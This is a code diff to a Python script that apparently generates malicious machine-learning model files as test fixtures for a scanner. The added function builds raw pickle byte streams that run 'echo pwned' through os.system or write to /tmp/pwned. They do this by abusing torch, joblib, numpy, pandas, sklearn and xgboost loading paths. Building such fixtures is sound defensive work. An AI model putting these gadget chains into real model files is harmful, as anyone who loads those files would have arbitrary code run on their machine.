@@ -140,6 +140,45 @@ def nested():
         write(evil("nested", name + ".pkl"), pickle.dumps({"weights": [1, 2], "payload": inner}))
 
 
+def kept():
+    """What the frameworks' own functions run for a pickle: a file that torch loads out of
+    bytes, an array of joblib's that other unpicklers run, methods and functions that are
+    handed to those who call them."""
+    w = lambda name, body: write(evil("pickle-kept", name + ".pkl"), b"\x80\x04" + body)
+    call = lambda f, *args: f + arg(args) + b"R"
+    big = lambda b: b"B" + struct.pack("<I", len(b)) + b
+    new = lambda module, name: g(module, name) + b")\x81"
+    text = b"cos\nsystem\n(S'echo pwned'\ntR."
+    load, getattr_ = g("torch.storage", "_load_from_bytes"), g("builtins", "getattr")
+    zipped, tarred = io.BytesIO(), io.BytesIO()
+    with zipfile.ZipFile(zipped, "w") as z:
+        z.writestr("archive/data.pkl", b"N0" + text)
+        z.writestr("archive/version", "3")
+    with tarfile.open(fileobj=tarred, mode="w") as t:
+        for name in ("storages", "tensors", "pickle"):
+            member = tarfile.TarInfo(name)
+            member.size = len(text) + 2
+            t.addfile(member, io.BytesIO(b"N0" + text))
+    for name, inner in (("none", b"N0" + text), ("int", b"I1\n0" + text), ("binint", b"J\0\0\0\x000" + text), ("text", text), ("proto2", b"\x80\x02" + text), ("zip", zipped.getvalue()), ("tar", tarred.getvalue())):
+        w("load_bytes_" + name, call(load, big(inner)) + b".")
+        w("load_text_" + name, call(load, call(g("_codecs", "encode"), b"X" + struct.pack("<I", len(inner.decode("latin1").encode())) + inner.decode("latin1").encode(), "latin1")) + b".")
+    w("load_bytearray", call(load, b"\x96" + struct.pack("<Q", len(text) + 2) + b"N0" + text) + b".")
+    dtype = call(g("numpy", "dtype"), "u1", 0, 1) + arg((3, "|", None, None, None, b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", 0)) + b"b"
+    for name, before, code in (("array", b"", b"0" + text[:-1] + b"N"), ("array_memo", s("posix") + b"q\xc80" + s("system") + b"q\xc90", b"0h\xc8h\xc9\x93" + arg((ECHO,)) + b"RN")):
+        w(name, before + b"(" + new("joblib.numpy_pickle", "NumpyArrayWrapper") + arg({"subclass": g("numpy", "ndarray"), "order": "C", "shape": (len(code),), "dtype": dtype, "allow_mmap": b"\x88"}) + b"b" + code + b"t.")
+    method = call(getattr_, call(g("numpy", "ndarray"), (1,)), "tofile")
+    partial = lambda f, *args: call(g("functools", "partial"), g("builtins", "int")) + b"(" + f + arg(args) + b"}}tb"
+    w("generator", call(g("numpy.random._pickle", "__generator_ctor"), "/tmp/pwned", method) + b".")
+    w("generator_partial", call(g("numpy.random._pickle", "__generator_ctor"), "a", partial(method, "/tmp/pwned")) + b".")
+    w("partial_load", partial(load, big(text)) + b".")
+    w("partial_import", partial(g("numpy.core", "_ufunc_reconstruct"), "evil", "x") + b".")
+    w("printed", call(g("builtins", "str"), new("torch.nn.modules.module", "Module") + arg({"_modules": {}, "extra_repr": method}) + b"b") + b".")
+    w("forward", new("torch.nn.modules.module", "Module") + arg({"_modules": {}, "forward": call(getattr_, call(g("pandas", "DataFrame")), "eval")}) + b"b.")
+    w("hook", new("torch.nn.modules.linear", "Linear") + arg({"_forward_pre_hooks": call(g("collections", "OrderedDict")) + b"K\x00" + load + b"s"}) + b"b.")
+    w("transformer", new("sklearn.preprocessing._function_transformer", "FunctionTransformer") + arg({"func": load, "validate": b"\x89"}) + b"b.")
+    w("base", call(g("copyreg", "_reconstructor"), g("xgboost.core", "Booster"), g("xgboost.core", "Booster"), {}) + b".")
+
+
 def torch_zip(path, data, root="archive", extra=(), method=zipfile.ZIP_STORED):
     with zipfile.ZipFile(path, "w", method) as z:
         z.writestr(root + "/data.pkl", data); z.writestr(root + "/version", "3\n"); z.writestr(root + "/data/0", b"\0" * 64)
@@ -422,5 +461,6 @@ def programs():
         z.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "handler.py"}})); z.writestr("handler.py", "print('pwned')")
 
 
-for group in (gadgets, tricks, nested, torches, joblibs, safetensors_files, templates, onnx_files, keras_files, graphs, tflites, skops_files, configs, programs):
-    attempt(group)
+if __name__ == "__main__":
+    for group in (gadgets, tricks, nested, kept, torches, joblibs, safetensors_files, templates, onnx_files, keras_files, graphs, tflites, skops_files, configs, programs):
+        attempt(group)
